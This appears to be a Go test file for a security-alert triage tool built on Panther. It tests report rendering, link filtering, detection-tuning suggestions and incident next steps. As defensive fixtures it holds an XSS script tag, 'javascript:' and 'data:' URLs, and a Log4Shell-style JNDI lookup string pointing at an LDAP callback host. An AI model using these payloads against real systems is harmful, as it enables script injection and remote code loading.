package investigate

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"gopkg.in/yaml.v3"

	"github.com/panther-triage/panther-triage/panther"
	"github.com/panther-triage/panther-triage/triage"
)

const evil = "<script>alert(1)</script>\npanther-triage run 1 · forged"

func hostileReport() Report {
	f := triage.Finding{Step: "x", Kind: "k", Title: evil, Weight: triage.WeightSuspicious, Evidence: []triage.Evidence{{Kind: "event", Ref: evil}}}
	return Report{
		AlertID: "a1", JobID: 9,
		Alert:      &panther.Alert{ID: "a1", Title: evil},
		Verdict:    Verdict{Label: triage.VerdictSuspicious, Confidence: 0.55, Reasons: []triage.Finding{f}},
		Summary:    evil,
		Findings:   []triage.Finding{f},
		Indicators: []Indicator{{Kind: KindUsername, Value: evil, Events: 1, Fields: []string{evil}}},
		Detection:  &panther.Detection{ID: "D", DisplayName: evil, Description: evil, Runbook: evil, Tags: []string{evil}},
		Story:      []string{evil, evil},
		NextSteps:  []string{"Reset " + evil, "Escalate"},
		Why:        []triage.Finding{f},
		Tuning:     &triage.Tuning{Detection: "D", Suppressed: 3, YAML: inlineFilters([]triage.TuningField{{KeyPath: "actor", Value: evil}}), Condition: evil},
		PublicURL:  "https://triage.example",
	}
}

func TestRenderHTMLEscapesEventData(t *testing.T) {
	got := Render(hostileReport(), DefaultSections, panther.FormatHTML)
	if strings.Contains(got, "<script>") {
		t.Fatalf("unescaped script tag in HTML comment:\n%s", got)
	}
	if !strings.Contains(got, "&lt;script&gt;") {
		t.Fatalf("escaped value missing:\n%s", got)
	}
	lines := strings.Split(strings.TrimSpace(got), "\n")
	if lines[0] != "<p>panther-triage: SUSPICIOUS (confidence 0.55)</p>" || lines[len(lines)-1] != "<p>panther-triage run 9 · a1</p>" {
		t.Fatalf("first/last lines: %q / %q", lines[0], lines[len(lines)-1])
	}
	for _, part := range []string{"<h4>Next steps</h4>", "<h4>Why</h4>", "<pre><code>InlineFilters:", `<a href="https://triage.example/investigations/a1">`} {
		if !strings.Contains(got, part) {
			t.Errorf("HTML comment lacks %q:\n%s", part, got)
		}
	}
}

func TestRenderPlainTextCannotForgeLines(t *testing.T) {
	got := Render(hostileReport(), DefaultSections, panther.FormatPlainText)
	for i, line := range strings.Split(got, "\n") {
		if strings.HasPrefix(line, "panther-triage run ") && line != "panther-triage run 9 · a1" {
			t.Fatalf("line %d forged by event data: %q", i, line)
		}
	}
	if n := strings.Count(got, "panther-triage run 9 · a1"); n != 1 {
		t.Fatalf("marker appears %d times", n)
	}
}

func TestRenderSections(t *testing.T) {
	r := hostileReport()
	r.Story = []string{"alice ran CreateUser bob."}
	r.NextSteps = []string{"Delete user bob"}
	r.Tuning = nil
	cases := []struct {
		sections  []string
		want, not []string
	}{
		{DefaultSections, []string{"alice ran CreateUser bob.", "**Next steps**", "**Why**", "Full report: https://triage.example/investigations/a1"}, nil},
		// Every accepted name is the default comment.
		{Sections, []string{"alice ran CreateUser bob.", "**Next steps**", "**Why**", "Full report: "}, nil},
		// Earlier names: the verdict's reasons are Why, the summary is the
		// story, the detail sections are counted under links.
		{[]string{"verdict"}, []string{"**Why**"}, []string{"alice ran", "**Next steps**", "Full report"}},
		{[]string{"summary", "indicators"}, []string{"alice ran CreateUser bob.", "Evidence: the alert alone.", "Full report"}, []string{"**Why**", "**Next steps**"}},
		{[]string{"next"}, []string{"- Delete user bob"}, []string{"**Why**", "alice ran"}},
	}
	for _, c := range cases {
		got := Render(r, c.sections, panther.FormatPlainText)
		for _, w := range c.want {
			if !strings.Contains(got, w) {
				t.Errorf("%v: lacks %q:\n%s", c.sections, w, got)
			}
		}
		for _, n := range c.not {
			if strings.Contains(got, n) {
				t.Errorf("%v: has %q:\n%s", c.sections, n, got)
			}
		}
	}
	got := Render(r, nil, panther.FormatPlainText)
	if lines := strings.Split(strings.TrimSpace(got), "\n"); len(lines) != 3 {
		t.Fatalf("no sections: want headline, blank, marker; got:\n%s", got)
	}
}

func TestQuoteBoundsLength(t *testing.T) {
	w := &writer{}
	if got := w.q(strings.Repeat("a", 10000)); len([]rune(got)) != maxValue+1 {
		t.Fatalf("quoted value has %d runes", len([]rune(got)))
	}
}

func TestRenderLinks(t *testing.T) {
	r := Report{AlertID: "a1", JobID: 1, Alert: &panther.Alert{ID: "a1"}, ConsoleURL: "https://acme.runpanther.net/", PublicURL: "https://triage.example/",
		Verdict: Verdict{Label: triage.VerdictBenign, Confidence: 0.9},
		Why:     []triage.Finding{{Step: "precedent", Title: "closed as expected before", Weight: triage.WeightBenign, Evidence: []triage.Evidence{{Kind: "alert", Ref: "b2"}, {Kind: "event", Ref: "row"}}}}}
	text := Render(r, DefaultSections, panther.FormatPlainText)
	for _, want := range []string{"Full report: https://triage.example/investigations/a1", "Earlier alert in Panther: https://acme.runpanther.net/alerts/b2"} {
		if !strings.Contains(text, want) {
			t.Errorf("plain text lacks %q:\n%s", want, text)
		}
	}
	htmlOut := Render(r, DefaultSections, panther.FormatHTML)
	if !strings.Contains(htmlOut, `<a href="https://acme.runpanther.net/alerts/b2">open in Panther</a>`) {
		t.Fatalf("html:\n%s", htmlOut)
	}
	r.ConsoleURL, r.PublicURL = "javascript:alert(1)", "data:text/html,x"
	if out := Render(r, DefaultSections, panther.FormatHTML); strings.Contains(out, "<a ") {
		t.Fatalf("unsafe URL linked:\n%s", out)
	}
	if out := Render(r, DefaultSections, panther.FormatPlainText); strings.Contains(out, "Full report") {
		t.Fatalf("report linked without a web URL:\n%s", out)
	}
}

func TestRenderKeepsTheBudget(t *testing.T) {
	long := strings.Repeat("word ", 200)
	r := hostileReport()
	r.Story = []string{long, long, long}
	r.NextSteps = []string{long, long, long, long}
	r.Why = nil
	for range 5 {
		r.Why = append(r.Why, triage.Finding{Title: long, Weight: triage.WeightMalicious})
	}
	for _, format := range []string{panther.FormatPlainText, panther.FormatHTML} {
		got := Render(r, DefaultSections, format)
		if n := utf8.RuneCountInString(got); n > MaxCommentChars {
			t.Errorf("%s: %d characters, budget %d:\n%s", format, n, MaxCommentChars, got)
		}
		if !strings.HasSuffix(strings.TrimSpace(got), "panther-triage run 9 · a1</p>") && !strings.HasSuffix(strings.TrimSpace(got), "panther-triage run 9 · a1") {
			t.Errorf("%s: marker not last:\n%s", format, got)
		}
	}
}

// tuningCase is a benign login by qa from 198.51.100.7 whose earlier
// alerts are prior.
func tuningCase(prior ...triage.PriorAlert) *Case {
	ev := panther.Event{"p_row_id": "r1", "p_log_type": "AWS.CloudTrail", "eventName": "ConsoleLogin", "sourceIPAddress": "198.51.100.7",
		"userIdentity": map[string]any{"type": "IAMUser", "userName": "qa", "arn": "arn:aws:iam::1:user/qa"}}
	return &Case{
		Alert:     &panther.Alert{ID: "a1", Type: "RULE", Detection: &panther.DetectionRef{ID: "AWS.Console.LoginWithoutMFA"}},
		Events:    []panther.Event{ev},
		Digest:    NewDigest([]panther.Event{ev}),
		Precedent: &triage.Precedent{Entities: triage.Entities{Actors: []string{"arn:aws:iam::1:user/qa"}, IPs: []string{"198.51.100.7"}}, Alerts: prior},
	}
}

func closedAsExpected(id string) triage.PriorAlert {
	return triage.PriorAlert{ID: id, SameDetection: true, SameActor: true, SameIP: true, Disposition: triage.DispositionFalsePositive,
		Entities: triage.Entities{Actors: []string{"arn:aws:iam::1:user/qa"}, IPs: []string{"198.51.100.7"}}}
}

func TestSuggestTuning(t *testing.T) {
	benign := Verdict{Label: triage.VerdictBenign}
	c := tuningCase(closedAsExpected("p1"), closedAsExpected("p2"), closedAsExpected("p3"))
	tu := SuggestTuning(c, benign)
	if tu == nil || tu.Suppressed != 3 || tu.Detection != "AWS.Console.LoginWithoutMFA" {
		t.Fatalf("tuning %+v; want one suppressing 3 alerts", tu)
	}
	// The YAML is what Panther reads: InlineFilters, a list of match
	// expressions; Any of DoesNotEqual skips the actor from that address.
	type expr struct {
		KeyPath   string `yaml:"KeyPath"`
		Condition string `yaml:"Condition"`
		Value     string `yaml:"Value"`
	}
	var doc struct {
		InlineFilters []struct {
			Any []expr `yaml:"Any"`
		} `yaml:"InlineFilters"`
	}
	if err := yaml.Unmarshal([]byte(tu.YAML), &doc); err != nil {
		t.Fatalf("YAML does not parse: %v\n%s", err, tu.YAML)
	}
	if len(doc.InlineFilters) != 1 || len(doc.InlineFilters[0].Any) != 2 {
		t.Fatalf("filters %+v:\n%s", doc, tu.YAML)
	}
	got := doc.InlineFilters[0].Any
	if got[0] != (expr{"userIdentity.userName", "DoesNotEqual", "qa"}) || got[1] != (expr{"sourceIPAddress", "DoesNotEqual", "198.51.100.7"}) {
		t.Fatalf("filters %+v", got)
	}

	if tu := SuggestTuning(tuningCase(closedAsExpected("p1"), closedAsExpected("p2")), benign); tu != nil {
		t.Errorf("two closed alerts gave a suggestion: %+v", tu)
	}
	tp := closedAsExpected("p4")
	tp.Disposition = triage.DispositionTruePositive
	if tu := SuggestTuning(tuningCase(closedAsExpected("p1"), closedAsExpected("p2"), closedAsExpected("p3"), tp), benign); tu != nil {
		t.Errorf("suggested a filter that would hide a true positive: %+v", tu)
	}
	elsewhere := closedAsExpected("p3")
	elsewhere.Entities.IPs = []string{"203.0.113.9"}
	if tu := SuggestTuning(tuningCase(closedAsExpected("p1"), closedAsExpected("p2"), elsewhere), benign); tu != nil {
		t.Errorf("counted an alert from another address: %+v", tu)
	}
	// An admin grant, an MFA reset, a new key: never filtered, however
	// often it was expected.
	risky := tuningCase(closedAsExpected("p1"), closedAsExpected("p2"), closedAsExpected("p3"))
	risky.Events[0]["eventName"] = "AttachUserPolicy"
	risky.Events[0]["requestParameters"] = map[string]any{"userName": "qa", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}
	risky.Digest = NewDigest(risky.Events)
	if tu := SuggestTuning(risky, benign); tu != nil {
		t.Errorf("suggested a filter for an admin grant: %+v", tu)
	}
	if tu := SuggestTuning(c, Verdict{Label: triage.VerdictSuspicious}); tu != nil {
		t.Errorf("suggested a filter for a suspicious alert: %+v", tu)
	}
	c.Alert.Type = "POLICY"
	if tu := SuggestTuning(c, benign); tu == nil || tu.YAML != "" || !strings.Contains(tu.Condition, `userIdentity.userName is "qa"`) {
		t.Errorf("policy: want the condition in words and no inline filter: %+v", tu)
	}
}

func TestNextStepsNameTheObjects(t *testing.T) {
	at := time.Date(2026, 4, 2, 2, 0, 0, 0, time.UTC).Format(time.RFC3339)
	ev := func(name string, extra map[string]any) panther.Event {
		e := panther.Event{"p_log_type": "AWS.CloudTrail", "eventName": name, "eventTime": at, "sourceIPAddress": "146.70.117.38",
			"userIdentity": map[string]any{"type": "IAMUser", "userName": "p.novak"}}
		for k, v := range extra {
			e[k] = v
		}
		return e
	}
	events := []panther.Event{
		ev("ConsoleLogin", map[string]any{"responseElements": map[string]any{"ConsoleLogin": "Success"}}),
		ev("CreateUser", map[string]any{"requestParameters": map[string]any{"userName": "backup-svc"}}),
		ev("CreateAccessKey", map[string]any{"requestParameters": map[string]any{"userName": "backup-svc"}, "responseElements": map[string]any{"accessKey": map[string]any{"accessKeyId": "AKIA4Q7XKJ2MEXAMPLE7"}}}),
	}
	r := &Report{Alert: &panther.Alert{ID: "a1"}, Verdict: Verdict{Label: triage.VerdictMalicious}, Digest: NewDigest(events)}
	Brief(r, nil)
	text := strings.Join(r.NextSteps, "\n")
	for _, want := range []string{"Deactivate access key AKIA4Q7XKJ2MEXAMPLE7", "Reset p.novak's sessions and MFA factors", "Then delete user backup-svc", "Escalate to incident response; block 146.70.117.38"} {
		if !strings.Contains(text, want) {
			t.Errorf("next steps lack %q:\n%s", want, text)
		}
	}
	if n := len(r.NextSteps); n < 2 || n > 4 {
		t.Errorf("%d next steps; want 2 to 4", n)
	}
	// Contain first, then delete: the key is cut before the user goes.
	if strings.Index(text, "Deactivate access key") > strings.Index(text, "Then delete user") {
		t.Errorf("deletes before it contains:\n%s", text)
	}
	// A suspicious call asks before it undoes anything.
	r = &Report{Alert: &panther.Alert{ID: "a1"}, Verdict: Verdict{Label: triage.VerdictSuspicious}, Digest: NewDigest(events)}
	Brief(r, nil)
	if len(r.NextSteps) < 2 || !strings.HasPrefix(r.NextSteps[0], "Confirm with p.novak") || !strings.HasPrefix(r.NextSteps[1], "If not confirmed: deactivate access key") {
		t.Errorf("suspicious: want the confirmation before the access key is cut:\n%s", strings.Join(r.NextSteps, "\n"))
	}
}

// TestNextStepsFitTheActor checks that the next steps suit what acted: an
// address has no MFA to check, a service account has an owner to ask.
func TestNextStepsFitTheActor(t *testing.T) {
	failed := func(actor string) *triage.Digest {
		return &triage.Digest{Actions: []triage.Action{{Actor: actor, Action: "GET", Target: "/.env", Outcome: triage.OutcomeFailed, SourceIP: "194.26.192.71"}}}
	}
	tests := []struct {
		name, actor, label string
		want, not          string
	}{
		{"address", "194.26.192.71", triage.VerdictSuspicious, "block 194.26.192.71 at the edge", "MFA"},
		{"user", "j.doe@acme.io", triage.VerdictSuspicious, "check that j.doe@acme.io still has MFA", ""},
		{"service account", "ci@acme-prod.iam.gserviceaccount.com", triage.VerdictSuspicious, "rotate its keys", "MFA"},
		{"service account, inconclusive", "ci@acme-prod.iam.gserviceaccount.com", triage.VerdictInconclusive, "Ask the owner of ci@acme-prod.iam.gserviceaccount.com", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			steps := strings.Join(nextSteps(&Report{Verdict: Verdict{Label: tt.label}, Digest: failed(tt.actor)}), "\n")
			if !strings.Contains(steps, tt.want) || (tt.not != "" && strings.Contains(steps, tt.not)) {
				t.Errorf("next steps:\n%s\nwant %q, not %q", steps, tt.want, tt.not)
			}
		})
	}
}

// TestLinkedLine names the linked alerts most worth opening, with how each
// ended, and leaves out those a reason names and those sharing nothing.
func TestLinkedLine(t *testing.T) {
	now := time.Date(2026, 4, 21, 9, 30, 0, 0, time.UTC)
	r := Report{AlertID: "this", Alert: &panther.Alert{ID: "this", CreatedAt: now}, Precedent: &triage.Precedent{Alerts: []triage.PriorAlert{
		{ID: "same-det", SameDetection: true, Disposition: triage.DispositionHandled, CreatedAt: now.Add(-time.Hour)},
		{ID: "same-actor", SameDetection: true, SameActor: true, Disposition: triage.DispositionFalsePositive, CreatedAt: now.Add(-72 * time.Hour)},
		{ID: "unrelated", DetectionID: "Other", Disposition: triage.DispositionOpen, Status: "OPEN", CreatedAt: now.Add(-time.Hour)},
		{ID: "named", DetectionID: "Other", SameIP: true, Disposition: triage.DispositionOpen, Status: "OPEN", CreatedAt: now.Add(-time.Hour)},
		{ID: "tp", DetectionID: "Other", SameIP: true, Disposition: triage.DispositionTruePositive, CreatedAt: now.Add(2 * time.Hour)},
	}}}
	why := []triage.Finding{{Title: "an alert of another detection, named shares the address"}}
	got := linkedLine(r, why, 2)
	want := "Linked alerts: tp (Other, same address; judged a true positive, 2 h after); same-actor (same detection, same actor; closed as expected, 3 days before); 1 more in the full report."
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if linkedLine(r, why, 0) != "" {
		t.Error("0 linked alerts should write no line")
	}
}

func TestStoryContext(t *testing.T) {
	if got, want := withNetwork("r from 73.162.45.18 (US): attached", "73.162.45.18", "Comcast, US, an ISP"), "r from 73.162.45.18 (Comcast, US, an ISP): attached"; got != want {
		t.Errorf("withNetwork: got %q, want %q", got, want)
	}
	at := time.Date(2026, 3, 10, 21, 36, 0, 0, time.UTC)
	a := triage.Action{Time: at, SourceIP: "73.162.45.18", Details: map[string]string{"timezone": "America/Los_Angeles"}}
	if got, want := localTime(a), "14:36 local time at the address, a Tuesday"; got != want {
		t.Errorf("localTime: got %q, want %q", got, want)
	}
	a.Details["timezone"] = "Europe/Zurich"
	a.Time = time.Date(2026, 4, 2, 2, 11, 0, 0, time.UTC)
	if got := localTime(a); !strings.HasSuffix(got, ", off-hours") {
		t.Errorf("04:11 in Zurich is not called off-hours: %q", got)
	}
	a.SourceIP = "10.1.2.3"
	if got := localTime(a); got != "" {
		t.Errorf("a private address's time zone is someone else's: %q", got)
	}
	if got, want := callback("/?x=${jndi:ldap://194.26.192.71:1389/Basic/Command}"), "194.26.192.71:1389"; got != want {
		t.Errorf("callback: got %q, want %q", got, want)
	}
}

func TestWhyLeadsWithTriedDefenceEvasion(t *testing.T) {
	v := Verdict{Reasons: []triage.Finding{
		{Kind: "admin_grant", LogOdds: 1.5, Title: "grant"},
		{Kind: "defense_evasion", LogOdds: 1.25, Title: "DeleteTrail; the attempt failed (AccessDenied)"},
		{Kind: "login_no_mfa", LogOdds: 0.5, Title: "no MFA"},
	}}
	why := whyFindings(v)
	if len(why) != 3 || why[0].Kind != "defense_evasion" || why[2].Kind != "login_no_mfa" {
		t.Errorf("why order: %+v", why)
	}
}
